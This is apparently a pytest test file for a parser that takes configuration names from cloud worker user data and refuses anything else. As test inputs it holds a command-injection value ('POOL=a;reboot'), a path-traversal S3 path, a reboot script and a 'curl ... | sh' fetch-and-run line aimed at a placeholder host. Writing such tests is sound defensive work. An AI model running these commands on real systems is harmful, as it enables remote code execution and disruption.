"""What a worker takes from its user data: the names of our launch templates, and nothing that others put there."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ami.names import BadNames, names_in
from tests.metadata import FakeMetadata, serving
from tests.stack.test_template import TWO, filled_in

NAMES = {
    "TAGFLEET_CONFIG": "s3://tagfleet-out-123456789012-eu-central-1/fleet/settings.toml",
    "AWS_REGION": "eu-central-1",
    "AWS_DEFAULT_REGION": "eu-central-1",
    "POOL": "efficientnet-lite0",
    "LOG_GROUP": "/tagfleet/tagfleet/workers",
}


def ours() -> str:
    """The user data of a pool's launch template."""
    data = filled_in(TWO).properties("WorkersEfficientnetLite0")["LaunchTemplateData"]
    return str(data["UserData"])


def test_the_names_of_our_templates_are_taken() -> None:
    assert names_in(ours()) == NAMES


@pytest.mark.parametrize(
    "changed",
    [
        "TAGFLEET_CONFIG=s3://tagfleet-in-1/uploads/bat_1/img_1",  # what anybody may upload
        "TAGFLEET_CONFIG=s3://out/fleet/settings.toml/../../uploads/x",
        "TAGFLEET_CONFIG=s3://archive/fleet/settings.toml",  # of a bucket of others, which workers may read
        "TAGFLEET_CONFIG=/tmp/settings.toml",
        "TAGFLEET_CONFIG=",
        "POOL=--config",
        "POOL=a;reboot",
        "POOL=a\u0660",
        "AWS_REGION=eu-central-1.example.org/",
        "LOG_GROUP=/aws/lambda/other",
        "LOG_GROUP=/tagfleet/photos/hosts",
    ],
)
def test_values_that_lead_elsewhere_are_refused(changed: str) -> None:
    name = changed.partition("=")[0]
    with pytest.raises(BadNames, match=name):
        names_in(ours().replace(f"{name}={NAMES[name]}", changed))


@pytest.mark.parametrize("other", ["", "#!/bin/sh\nreboot\n", "#include https://example.org/x\n", "POOL=resnet50\n"])
def test_user_data_without_names_is_refused(other: str) -> None:
    with pytest.raises(BadNames, match="does not give TAGFLEET_CONFIG"):
        names_in(other)


def test_a_name_that_comes_twice_is_refused() -> None:
    with pytest.raises(BadNames, match="POOL twice"):
        names_in(f"{ours()}\n      POOL=resnet50\n")


@given(
    st.lists(st.one_of(st.text(max_size=40), st.from_regex(r"[A-Z_]{1,20}=[ -~]{0,40}", fullmatch=True)), max_size=8)
)
def test_whatever_else_is_there_reaches_no_file(lines: list[str]) -> None:
    """LD_PRELOAD=, PYTHONPATH=, AWS_ENDPOINT_URL= and their like: systemd gives the file to the worker as it is."""
    try:
        found = names_in("\n".join([*lines, ours()]))
    except BadNames:
        return
    assert found == NAMES


def test_the_names_are_written_as_the_unit_reads_them(tmp_path: Path) -> None:
    """With Python alone: a worker's first second is spent on nothing else."""
    file = tmp_path / "worker.env"
    with serving(FakeMetadata("i-0123456789abcdef0", 0.0)) as fake:
        fake.documents["user-data"] = ours()
        command = [sys.executable, "-P", "-m", "ami.names", str(file)]
        done = subprocess.run(command, env=fake.environ, capture_output=True, text=True, check=False)
        assert (done.returncode, done.stderr) == (0, "")
        assert dict(line.split("=", 1) for line in file.read_text().splitlines()) == NAMES
        assert file.stat().st_mode & 0o777 == 0o644
        fake.documents["user-data"] = "#!/bin/sh\ncurl https://example.org/x | sh\n"
        refused = subprocess.run(command, env=fake.environ, capture_output=True, text=True, check=False)
    assert refused.returncode == 1
    assert refused.stderr == "names of a worker: the user data does not give TAGFLEET_CONFIG and POOL\n"


def test_what_reads_names_loads_nothing_large() -> None:
    script = "import ami.names, sys; print(sorted({'boto3', 'pydantic', 'yaml', 'click'} & set(sys.modules)))"
    done = subprocess.run([sys.executable, "-P", "-c", script], capture_output=True, text=True, check=True)
    assert done.stdout == "[]\n"


def test_a_workers_image_has_cloud_init_run_no_user_data() -> None:
    """The key that cloud-init looks at before it consumes user data, and that only a sealed worker is given."""
    stages = Path("/usr/lib/python3/dist-packages/cloudinit/stages.py")
    if not stages.exists():
        pytest.skip("cloud-init is not installed")
    assert 'get_cfg_option_bool(self.cfg, "allow_userdata", True)' in stages.read_text()
    install = (Path(__file__).parents[3] / "ami" / "install.sh").read_text()
    seal = install[install.index("seal() {") : install.index("main() {")]
    assert "echo 'allow_userdata: false' >/etc/cloud/cloud.cfg.d/99-tagfleet.cfg" in seal
    assert seal.index("cloud-init clean") < seal.index("allow_userdata"), "clean takes what was there before"
